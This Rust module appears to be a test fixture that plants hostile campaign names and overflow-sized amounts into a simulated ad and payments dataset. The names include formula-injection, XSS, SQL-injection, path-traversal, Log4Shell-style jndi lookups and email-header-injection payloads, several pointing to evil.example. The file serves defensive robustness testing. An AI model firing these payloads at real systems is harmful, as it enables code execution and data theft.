//! A world that means harm: names that try every format's weak spots, and amounts at and past the
//! largest that may be held. Off by default.

use super::payments::Charge;
use super::simulation::Simulation;
use super::traffic::AdDay;
use super::visit::Visit;
use crate::connectors::slice::start_of_day;
use chrono::{NaiveDate, TimeDelta};
use std::sync::LazyLock;

/// The largest amount held, in millionths and in hundredths, and the first that is not.
const MOST_MICROS: i64 = 999_999_999_999_999_999;
const MOST_CENTS: i64 = 99_999_999_999_999;
/// The first count that is not held.
const TOO_MANY: u64 = 1_000_000_000_000;

static NAMES: LazyLock<Vec<String>> = LazyLock::new(|| {
    let mut names: Vec<String> = [
        "=HYPERLINK(\"http://evil.example\",\"win\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "{{ 7 * 7 }}{% raw %}",
        "<!channel> <!here> <@U123> <http://evil.example|click>",
        "*bold* _it_ ~no~ `code`",
        "Sale\r\nBcc: victim@evil.example\r\n\r\n<b>body</b>",
        "invoice\u{202e}fdp.exe",
        "عروض الخريف ٢٠٢٦",
        "秋のキャンペーン 限定",
        "👩\u{200d}👩\u{200d}👧\u{200d}👦 🚀🏳\u{fe0f}\u{200d}🌈",
        "Z\u{0300}\u{0301}\u{0302}\u{0303}\u{0304}\u{0305}\u{0306}algo",
        "O'Brien'); DROP TABLE core.ad_daily; --",
        "../../../../etc/passwd",
        "\u{1b}]0;owned\u{7}\u{1b}[2J",
        "%s%n%x${jndi:ldap://evil.example/a}",
        "\\\\evil.example\\share",
    ]
    .map(str::to_owned)
    .to_vec();
    names.push("N".repeat(10_000));
    names.push("長".repeat(10_000));
    names
});

/// Names of campaigns that mean harm.
pub fn names() -> &'static [String] {
    &NAMES
}

/// Adds a hostile last day to a world. Its amounts are part of the truth, but for the excess.
pub fn plant(world: &mut Simulation) {
    let date = world.last;
    for (number, name) in (0..).zip(names()) {
        let clicks = 100 + number;
        // The first cost most: reports name only the campaigns that do.
        let micros = 3_000_000 * (100 - i64::try_from(number).unwrap_or(0));
        world.ads.push(ad(world, date, 7000 + number, name, clicks, micros));
        world.visits.push(visit(date, name, clicks - 7));
    }
    // Two, so that the day's sum is larger than any single amount may be.
    for number in [7900, 7901] {
        world.ads.push(ad(world, date, number, "at the limit", TOO_MANY - 1, MOST_MICROS));
    }
    world.excess.ads.push(ad(world, date, 7902, "past the limit", 1, MOST_MICROS + 1));
    world.excess.ads.push(ad(world, date, 7903, "past the limit", TOO_MANY, 1));
    world.excess.ads.push(ad(world, date, 7904, "past the limit", 1, i64::MAX));
    let currency = if world.tenant.has_crm { "eur" } else { "usd" };
    for (number, amount) in [("a", MOST_CENTS), ("b", MOST_CENTS), ("c", MOST_CENTS + 1), ("d", i64::MAX)] {
        let charge = charge(world, date, number, amount, currency);
        let charges = if amount > MOST_CENTS { &mut world.excess.charges } else { &mut world.lives.charges };
        charges.push(charge);
    }
}

fn ad(world: &Simulation, date: NaiveDate, id: u64, name: &str, clicks: u64, cost_micros: i64) -> AdDay {
    AdDay {
        date,
        account: world.tenant.accounts[0],
        campaign_id: id,
        campaign: name.to_owned(),
        kind: "SEARCH",
        impressions: clicks,
        clicks,
        cost_micros,
        conversions_final: 100,
    }
}

fn visit(date: NaiveDate, campaign: &'static str, sessions: u64) -> Visit {
    Visit {
        date,
        source: "google",
        medium: "cpc",
        campaign,
        device: "desktop",
        country: "Germany",
        page: campaign,
        sessions,
        engaged: sessions / 2,
        pageviews: sessions * 2,
        seconds: sessions * 60,
        key_events: 1,
    }
}

fn charge(world: &Simulation, date: NaiveDate, number: &str, amount: i64, currency: &'static str) -> Charge {
    let created = start_of_day(date, world.tenant.zone) + TimeDelta::hours(9);
    Charge {
        id: format!("ch_limit_{number}"),
        created,
        customer: format!("cus_limit_{number}"),
        email: format!("limit_{number}@example.com"),
        amount,
        currency,
        is_paid: true,
        captured_at: Some(created),
        captured_amount: amount,
        utm: Some(("google", "cpc", names()[5].as_str())),
    }
}
